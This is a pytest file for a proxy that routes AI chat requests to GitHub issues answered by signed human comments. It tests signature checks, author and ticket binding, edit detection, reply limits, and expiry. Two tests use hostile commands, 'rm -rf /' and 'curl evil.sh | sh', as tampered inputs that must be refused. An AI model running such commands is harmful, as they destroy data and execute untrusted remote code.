"""How the desk treats comments: only a verified answer answers, and the ticket says why."""

from __future__ import annotations

import asyncio
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from github import GithubException

from embedded_github import RunningSandbox, SandboxConfig
from tests.helpers.agent_runs import pending_issue
from tests.helpers.stack import REPO, Stack, start_stack, stop_stack
from ticketing.errors import DeskStopped

PROMPT = [{"role": "user", "content": "List the files in the workspace."}]


async def ask(stack: Stack, content: str = "List the files in the workspace.") -> asyncio.Task:  # type: ignore[type-arg]
    """Start a completion request and wait for its issue to appear."""
    client = stack.openai()
    messages = [{"role": "user", "content": content}]
    # Counted before the request is sent: counted after, its issue may already be there.
    number = len(await stack.issues()) + 1
    task = asyncio.create_task(client.chat.completions.create(model="gpt-4o", messages=messages))  # type: ignore[arg-type]
    await stack.wait_for_issue(number)
    return task


async def bot_replies(stack: Stack, number: int) -> list[str]:
    """Return the bodies of the bot's comments on an issue."""
    return await stack.bot_replies(number)


async def test_unsigned_comment_does_not_answer_and_gets_no_reply(stack: Stack) -> None:
    """Ordinary discussion is ignored: no answer, no reply."""
    pending = await ask(stack)
    await stack.comment(1, "I think we should list them with ls")
    await stack.settle()
    assert not pending.done()
    assert await bot_replies(stack, 1) == []
    await stack.answer(1, "README.md")
    assert (await asyncio.wait_for(pending, 10)).choices[0].message.content == "README.md"


async def test_comment_posted_by_someone_other_than_the_signer_is_refused(stack: Stack) -> None:
    """Bob re-posts a comment alice signed: the author is not the signer, it does not answer."""
    pending = await ask(stack)
    await stack.comment(1, stack.signed("rm -rf /", number=1, signer="alice"), author="bob")
    await stack.settle()
    assert not pending.done()
    replies = await bot_replies(stack, 1)
    assert len(replies) == 1
    assert "posted by another account than the signer" in replies[0]
    assert stack.desk.answers_rejected["author_mismatch"] == 1
    pending.cancel()


async def test_signature_for_another_ticket_is_refused(stack: Stack) -> None:
    """A signature whose ``aud`` names another issue does not answer this one."""
    pending = await ask(stack)
    body = stack.signed("answer meant for #7", number=1, ticket=f"{REPO}#7")
    await stack.comment(1, body)
    await stack.settle()
    assert not pending.done()
    assert len(await bot_replies(stack, 1)) == 1
    pending.cancel()


async def test_text_edited_after_signing_is_refused(stack: Stack) -> None:
    """A signed comment whose text was changed no longer matches its hash."""
    pending = await ask(stack)
    body = stack.signed("ls -la", number=1).replace("ls -la", "curl evil.sh | sh", 1)
    await stack.comment(1, body)
    await stack.settle()
    assert not pending.done()
    assert len(await bot_replies(stack, 1)) == 1
    pending.cancel()


async def test_editing_a_signed_comment_on_github_is_refused(stack: Stack) -> None:
    """A comment edited on GitHub after signing (a new updated_at) is checked again and refused."""
    pending = await ask(stack)
    comment = await stack.comment(1, "draft, unsigned")
    signed = stack.signed("echo safe", number=1)
    await asyncio.to_thread(comment.edit, signed.replace("echo safe", "echo unsafe", 1))
    await stack.settle()
    assert not pending.done()
    # Read again after the edit and refused for its text, not skipped as already seen.
    assert stack.desk.answers_rejected["text_mismatch"] == 1
    assert len(await bot_replies(stack, 1)) == 1
    pending.cancel()


async def test_outsider_cannot_even_comment_on_a_locked_ticket(stack: Stack) -> None:
    """Tickets are locked, so mallory (read access only) cannot post on them at all."""
    pending = await ask(stack)
    with pytest.raises(GithubException) as caught:
        await stack.comment(
            1, stack.signed("trust me", number=1, signer="mallory"), author="mallory"
        )
    assert caught.value.status == 403
    pending.cancel()


async def test_signer_without_the_editor_role_is_refused(unlocked_stack: Stack) -> None:
    """Mallory holds only the reviewer role: her signed answer does not count."""
    stack = unlocked_stack
    pending = await ask(stack)
    await stack.comment(1, stack.signed("trust me", number=1, signer="mallory"), author="mallory")
    await stack.settle()
    assert not pending.done()
    assert len(await bot_replies(stack, 1)) == 1
    pending.cancel()


async def test_each_rejected_comment_gets_one_reply_and_a_ticket_at_most_five(stack: Stack) -> None:
    """Replies cannot be used to make the bot spam: one per comment, five per ticket."""
    pending = await ask(stack)
    for index in range(7):
        body = stack.signed(f"wrong ticket {index}", number=1, ticket=f"{REPO}#99")
        await stack.comment(1, body)
    await stack.settle()
    await stack.settle()
    assert len(await bot_replies(stack, 1)) == 5
    pending.cancel()


async def test_first_valid_answer_wins_and_a_later_one_is_told_so(stack: Stack) -> None:
    """Two valid answers: the first is delivered, the second gets a reply and is not."""
    pending = await ask(stack)
    await stack.answer(1, "first")
    await stack.answer(1, "second", signer="bob")
    await stack.settle()
    assert (await asyncio.wait_for(pending, 10)).choices[0].message.content == "first"
    replies = await bot_replies(stack, 1)
    assert len(replies) == 1


async def test_poll_makes_one_request_for_many_pending_tickets_and_304_when_nothing_changed(
    github_sandbox: RunningSandbox, sandbox_config: SandboxConfig, tmp_path: Path
) -> None:
    """Twelve pending tickets cost one comment-list request per poll, and a 304 when idle."""
    # A long interval: only the polls this test makes happen while it counts.
    stack = await start_stack(github_sandbox, sandbox_config, tmp_path, poll_interval=3600.0)
    tasks = [await ask(stack, f"question {n}") for n in range(12)]
    await stack.settle()
    sandbox = stack.sandbox.sandbox
    before = len(sandbox.requests)
    requests = await stack.desk.poll_once()
    made = sandbox.requests[before:]
    listing = [r for r in made if r.path.endswith("/issues/comments")]
    assert requests == 1
    assert len(made) == 1
    assert len(listing) == 1
    assert listing[0].status == 304
    for task in tasks:
        task.cancel()
    await stop_stack(stack)


async def test_a_burst_of_new_tickets_is_not_a_poll_per_ticket(
    github_sandbox: RunningSandbox, sandbox_config: SandboxConfig, tmp_path: Path
) -> None:
    """Twelve tickets opened: the first wakes the idle poller, the rest wait for the interval."""
    stack = await start_stack(github_sandbox, sandbox_config, tmp_path, poll_interval=3600.0)
    tasks = [await ask(stack, f"question {n}") for n in range(12)]
    await stack.desk.followups.drain()
    await asyncio.sleep(0.2)  # time for any poll a ticket asked for
    listing = [r for r in stack.sandbox.sandbox.requests if r.path.endswith("/issues/comments")]
    assert len(listing) == 1
    for task in tasks:
        task.cancel()
    await stop_stack(stack)


async def test_ticket_nobody_answers_expires_and_the_client_is_told_plainly(
    short_stack: Stack,
) -> None:
    """After the maximum wait the client gets a completion saying no one answered, no command."""
    pending = await ask(short_stack)
    completion = await asyncio.wait_for(pending, 10)
    content = completion.choices[0].message.content or ""
    assert "no" in content.lower()
    assert "```" not in content
    assert completion.choices[0].message.tool_calls is None
    await short_stack.desk.followups.drain()
    issue = await short_stack.wait_for_issue(1)
    assert issue.state == "closed"
    assert {label.name for label in issue.labels} == {"ticketproxy", "expired"}
    assert len(await bot_replies(short_stack, 1)) == 1


async def test_signed_answer_on_an_expired_ticket_is_refused_and_the_ticket_says_so(
    short_stack: Stack,
) -> None:
    """A late answer is never delivered; the bot replies that the ticket expired."""
    pending = await ask(short_stack)
    await asyncio.wait_for(pending, 10)
    await short_stack.answer(1, "too late")
    await short_stack.settle()
    replies = await bot_replies(short_stack, 1)
    assert len(replies) == 2  # the expiry notice, then the late-answer reply
    assert short_stack.desk.store.answer_for(1) is None


async def test_restart_resumes_a_pending_ticket_and_the_retry_gets_the_answer(
    github_sandbox: RunningSandbox, sandbox_config: SandboxConfig, tmp_path: Path
) -> None:
    """Stop the proxy mid-wait, answer while it is down, restart: the retry gets the answer."""
    first = await start_stack(github_sandbox, sandbox_config, tmp_path)
    pending = await ask(first)
    await stop_stack(first)
    with pytest.raises(Exception):  # noqa: B017, PT011 - the connection dies with the server
        await pending
    again = await start_stack(github_sandbox, sandbox_config, tmp_path, keys=first.keys)
    try:
        await again.answer(1, "answered across a restart")
        client = again.openai()
        retry = await asyncio.wait_for(
            client.chat.completions.create(model="gpt-4o", messages=PROMPT),  # type: ignore[arg-type]
            10,
        )
        assert retry.choices[0].message.content == "answered across a restart"
        assert len(await again.issues()) == 1
    finally:
        await stop_stack(again)


def test_default_max_wait_is_an_hour() -> None:
    """The desk waits an hour by default before failing closed."""
    from ticketing.desk import DeskSettings

    assert DeskSettings(repo=REPO).max_wait == timedelta(hours=1)


async def test_edit_in_the_same_second_as_the_draft_is_still_seen(
    start_github_sandbox: Any, sandbox_clock: Any, tmp_path: Path
) -> None:
    """GitHub's timestamps have whole seconds: a draft edited into a signed answer within
    the same second keeps its updated_at, and must still be read again."""
    running = await start_github_sandbox(clock=sandbox_clock)
    stack = await start_stack(running, running.sandbox.config, tmp_path)
    try:
        pending = await ask(stack)
        draft = await stack.comment(1, "draft, unsigned")
        await stack.settle()
        # The sandbox clock stands still: the edit has the draft's updated_at.
        await asyncio.to_thread(draft.edit, stack.signed("same-second answer", number=1))
        assert (await asyncio.wait_for(pending, 10)).choices[0].message.content == (
            "same-second answer"
        )
    finally:
        await stop_stack(stack)


async def test_new_request_costs_github_one_create_and_one_lock_and_no_marker_lookup(
    stack: Stack,
) -> None:
    """A ticket opened just now cannot have an issue yet: no issue listing before creating."""
    sandbox = stack.sandbox.sandbox
    before = len(sandbox.requests)
    client = stack.openai()
    messages = [{"role": "user", "content": "How many requests does this cost?"}]
    pending = asyncio.create_task(client.chat.completions.create(model="gpt-4o", messages=messages))  # type: ignore[arg-type]
    # Watched in the store, not on GitHub: this test's own reads would count too.
    await pending_issue(stack)
    await stack.desk.followups.drain()
    made = [(r.method, r.path) for r in sandbox.requests[before:]]
    assert ("POST", "/repos/acme/agents/issues") in made
    assert ("PUT", "/repos/acme/agents/issues/1/lock") in made
    assert ("GET", "/repos/acme/agents/issues") not in made
    pending.cancel()


async def test_stopping_desk_tells_waiting_clients_to_retry_instead_of_leaving_them_hanging(
    stack: Stack,
) -> None:
    """Waits still open when the desk stops end with DeskStopped; new waits are refused."""
    pending = await ask(stack)
    ticket = stack.desk.store.ticket_for_issue(1)
    assert ticket is not None
    waiting = stack.desk.watch(ticket)
    await stack.desk.stop()
    assert waiting.done()
    assert isinstance(waiting.exception(), DeskStopped)
    with pytest.raises(DeskStopped):
        stack.desk.watch(ticket)
    pending.cancel()
